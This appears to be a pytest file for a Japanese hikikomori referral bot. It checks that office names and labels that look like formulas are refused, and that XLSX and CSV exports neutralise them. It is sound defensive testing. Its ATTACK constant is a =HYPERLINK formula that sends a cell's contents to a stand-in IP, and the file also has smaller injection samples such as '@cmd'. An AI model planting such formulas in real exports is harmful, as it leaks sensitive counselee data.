"""Formula injection: a name that a spreadsheet would run never reaches a counselor as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from bot.clock import fiscal_year, japan_date
from bot.content.source import content_source
from bot.db.database import database
from bot.referrals import exports
from tests.support.console import log_in, make_account
from tests.support.drafts import copy_draft, edit
from tests.support.referrals import add_referral

ATTACK = '=HYPERLINK("http://203.0.113.9/?leak="&B9,"詳細")'
CENTER = "秋田県ひきこもり相談支援センター"
TODAY = japan_date()
MONTH = TODAY.replace(day=1)


def test_check_and_publish_refuse_a_formula_looking_office_name(runner, tmp_path):
    root = copy_draft(tmp_path)
    edit(root, "content/offices.yaml", f"name: {CENTER}", f"name: '{ATTACK}'")
    checked = runner.invoke(args=["check", "--root", str(root)])
    assert checked.exit_code != 0
    assert "office 'hikikomori-center'" in checked.output
    assert "formula" in checked.output and "remove the leading '='" in checked.output
    published = runner.invoke(args=["publish", "--root", str(root), "--note", "x"])
    assert published.exit_code != 0
    assert "office 'hikikomori-center'" in published.output


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_check_refuses_each_formula_start(runner, tmp_path, start):
    root = copy_draft(tmp_path)
    edit(root, "content/offices.yaml", f"name: {CENTER}", f'name: "{start}1+1"'
         .replace("\t", "\\t").replace("\r", "\\r"))
    checked = runner.invoke(args=["check", "--root", str(root)])
    assert checked.exit_code != 0, checked.output
    assert "office 'hikikomori-center': its name" in checked.output


def test_check_names_a_formula_looking_answer_label(runner, tmp_path):
    root = copy_draft(tmp_path)
    edit(root, "flows/questionnaire.yaml", "label: ご本人", 'label: "=1+1"')
    checked = runner.invoke(args=["check", "--root", str(root)])
    assert checked.exit_code != 0
    assert "question 'subject', option 'self': its label '=1+1'" in checked.output


@pytest.fixture
def poisoned(app):
    """Make the live content name an office and a programme as an attacker would.

    `check` refuses such names now; a version published before it could still hold one.
    """
    source = content_source(app)
    content = source.current()
    office = content.offices["hikikomori-center"].model_copy(update={"name": ATTACK})
    programme = content.programmes["hw-senmon"].model_copy(update={"item": "+SUM(A1:A9)",
                                                                   "name": "@cmd"})
    source.use(content.model_copy(update={
        "offices": {**content.offices, office.id: office},
        "programmes": {**content.programmes, programme.id: programme}}))
    add_referral(app, MONTH, {"subject": "self", "age": "40-44", "area": "-2+3"},
                 ["hw-senmon"], ["hikikomori-center"])
    return app


def formula_cells(book: bytes) -> list[str]:
    """Return every cell of a workbook that is a formula, or a text that looks like one."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(book)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"formula {cell.coordinate}: {cell.value}")
                elif (isinstance(cell.value, str) and exports.looks_like_formula(cell.value)
                      and not cell.quotePrefix):
                    found.append(f"unquoted text {cell.coordinate}: {cell.value}")
    return found


def texts_of(book: bytes) -> list[str]:
    return [cell.value for sheet in openpyxl.load_workbook(io.BytesIO(book)).worksheets
            for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def csv_cells(data: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in line]


def tables(app):
    content = content_source(app).current()
    db = database(app)
    return [exports.soudan(db, content, fiscal_year(TODAY)),
            exports.referral_records(db, content, MONTH, MONTH),
            *exports.monthly(db, content, MONTH)]


def test_every_table_is_written_as_text_in_xlsx(poisoned):
    for table in tables(poisoned):
        book = exports.to_xlsx(table)
        assert formula_cells(book) == [], table.title
    records = exports.to_xlsx(tables(poisoned)[1])
    assert "'-2+3" not in texts_of(records) and "-2+3" in texts_of(records)
    assert ATTACK in texts_of(exports.to_xlsx(tables(poisoned)[0]))  # shown, as text


def test_every_table_is_written_with_a_quote_in_csv(poisoned):
    for table in tables(poisoned):
        cells = csv_cells(exports.to_csv(table))
        assert not [c for c in cells if exports.looks_like_formula(c)], table.title
    assert f"'{ATTACK}" in csv_cells(exports.to_csv(tables(poisoned)[0]))
    assert "'-2+3" in csv_cells(exports.to_csv(tables(poisoned)[1]))


def test_negative_numbers_stay_numbers(poisoned):
    add_referral(poisoned, (MONTH - dt.timedelta(days=1)).replace(day=1),
                 {"subject": "self", "area": "秋田市"}, [], ["hikikomori-center"], n=3)
    book = exports.to_xlsx(exports.monthly(database(poisoned),
                                           content_source(poisoned).current(), MONTH))
    sheet = openpyxl.load_workbook(io.BytesIO(book)).worksheets[1]  # 相談先別
    changes = [row[3].value for row in sheet.iter_rows() if row[0].value == ATTACK]
    assert changes == [-2]  # 1 this month, 3 the month before: a number, not a text


@pytest.fixture
def counselor(poisoned, client):
    make_account(poisoned, "sato", "counselor")
    log_in(client, "sato")
    return client


@pytest.mark.parametrize("path", [
    f"/admin/exports/soudan?fy={fiscal_year(TODAY)}&format=xlsx",
    f"/admin/exports/referrals?from={MONTH:%Y-%m}&to={MONTH:%Y-%m}&format=xlsx",
    f"/admin/exports/monthly?month={MONTH:%Y-%m}",
])
def test_the_console_s_workbooks_hold_no_formula(counselor, path):
    response = counselor.get(path)
    assert response.status_code == 200
    assert formula_cells(response.data) == []


@pytest.mark.parametrize("path", [
    f"/admin/exports/soudan?fy={fiscal_year(TODAY)}&format=csv",
    f"/admin/exports/referrals?from={MONTH:%Y-%m}&to={MONTH:%Y-%m}&format=csv",
])
def test_the_console_s_csv_files_quote_formulas(counselor, path):
    response = counselor.get(path)
    assert response.status_code == 200
    cells = csv_cells(response.data)
    assert not [c for c in cells if exports.looks_like_formula(c)]
    assert any(c.startswith("'") for c in cells)


def test_the_command_s_files_hold_no_formula(poisoned, runner, tmp_path):
    fy = str(fiscal_year(TODAY))
    for args, name in ((["soudan", "--fy", fy, "--format", "xlsx"], "s.xlsx"),
                       (["monthly", "--month", f"{MONTH:%Y-%m}"], "m.xlsx"),
                       (["referrals", "--from", f"{MONTH:%Y-%m}", "--to", f"{MONTH:%Y-%m}",
                         "--format", "csv"], "r.csv")):
        out = tmp_path / name
        result = runner.invoke(args=["export", *args, "-o", str(out)])
        assert result.exit_code == 0, result.output
        if name.endswith(".xlsx"):
            assert formula_cells(out.read_bytes()) == []
        else:
            assert not [c for c in csv_cells(out.read_bytes())
                        if exports.looks_like_formula(c)]
